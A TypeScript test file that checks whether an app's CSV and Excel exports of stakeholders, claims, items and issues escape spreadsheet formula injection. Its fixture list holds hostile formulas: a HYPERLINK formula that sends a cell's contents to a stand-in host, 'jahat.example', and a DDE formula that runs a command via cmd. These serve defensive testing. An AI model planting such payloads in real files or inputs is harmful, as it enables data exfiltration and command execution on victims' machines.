import { parse } from 'csv-parse/sync';
import exceljs from 'exceljs';
import { strFromU8, unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createReportFiles } from '../../../infra/render/create-report-files.ts';
import { runReport } from '../../../pipelines/report/run/run-report.ts';
import { buildIssue } from '../../../shared/testing/build-issue.ts';
import { buildIndexedItem, buildLabels } from '../../../shared/testing/build-item.ts';
import { buildPerson, buildStakeholder } from '../../../shared/testing/build-stakeholder.ts';
import { asToken, openTestApp, type TestApp } from '../testing/open-test-people.ts';

const formulas = [
  '=HYPERLINK("https://jahat.example?"&A1,"klik")',
  "=cmd|' /C calc'!A0",
  '+1+cmd',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
];
/** What a spreadsheet would calculate; a lone number with its sign is none. */
const wouldRun = (cell: string): boolean =>
  /^\s*[=+\-@]/.test(cell) && Number.isNaN(Number(cell.replace(',', '.')));

describe('spreadsheet formulas in exports', () => {
  let test: TestApp;
  let looked = 0;
  beforeAll(async () => {
    test = await openTestApp({ files: createReportFiles(), at: Date.UTC(2024, 10, 28) });
    for (const [n, formula] of formulas.entries()) {
      await test.records.issues.put([buildIssue(n + 1, { title: formula, summary: formula })]);
      const labels = buildLabels({ places: [{ code: '35.73', from: 'text', words: [] }] });
      const item = { text: formula, title: formula, outlet: formula, author: formula, labels };
      await test.index.put([
        buildIndexedItem({ nativeId: `f${n}`, issueId: `issue-00${n + 1}`, linkedAt: 1, ...item }),
      ]);
      const person = buildPerson(n, { name: formula.trim(), position: formula });
      await test.records.dissemination.stakeholders.put(
        buildStakeholder(n, { name: formula.trim(), note: formula, persons: [person] }),
      );
      const claim = { text: `${formula} klaim yang cukup panjang untuk disimpan`, explanation: formula };
      expect((await test.call('POST', '/v1/claims', asToken, claim)).status).toBeLessThan(300);
    }
  });
  afterAll(() => test.close());

  const checkCsv = (where: string, text: string, delimiter: string): void => {
    const rows = parse(text, { bom: true, delimiter, relax_column_count: true }) as string[][];
    for (const cell of rows.flat()) {
      looked += 1;
      expect([where, cell, wouldRun(cell)]).toEqual([where, cell, false]);
    }
    expect([where, rows.length > formulas.length]).toEqual([where, true]);
  };

  it('are escaped in the book of stakeholders and in the knowledge base', async () => {
    checkCsv('stakeholders', (await test.call('GET', '/v1/stakeholders/export')).text, ';');
    checkCsv('claims', (await test.call('GET', '/v1/claims/export?format=csv')).text, ',');
  });

  it('are escaped in exports of items, issues and claims, as CSV and as workbook', async () => {
    for (const kind of ['items', 'issues', 'claims']) {
      const run = await test.call('POST', '/v1/exports', asToken, { what: kind, unit: 'RI' });
      expect([kind, run.status]).toEqual([kind, 202]);
      await runReport(test as never, run.body.id);
      const { links } = (await test.call('GET', `/v1/report-runs/${run.body.id}`)).body;
      for (const url of links as string[]) {
        const got = await test.app.inject({ url, headers: test.headers });
        expect(got.headers['content-disposition']).toContain('attachment');
        if (url.endsWith('csv'))
          checkCsv(kind, got.body, got.body.split('\n', 1)[0]!.includes(';') ? ';' : ',');
        if (url.endsWith('xlsx')) await checkWorkbook(kind, got.rawPayload);
      }
      expect(links.length).toBeGreaterThan(1);
    }
    console.info(`spreadsheet formulas: ${looked} of ${looked} cells run nothing`);
  });

  async function checkWorkbook(where: string, bytes: Buffer): Promise<void> {
    const files = unzipSync(new Uint8Array(bytes));
    for (const [name, content] of Object.entries(files))
      if (name.startsWith('xl/worksheets/'))
        expect([where, /<f[\s>]/.test(strFromU8(content))]).toEqual([where, false]);
    const book = new exceljs.Workbook();
    await book.xlsx.load(bytes as never);
    book.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          looked += 1;
          expect([where, cell.type === exceljs.ValueType.Formula]).toEqual([where, false]);
        }),
      ),
    );
  }
});
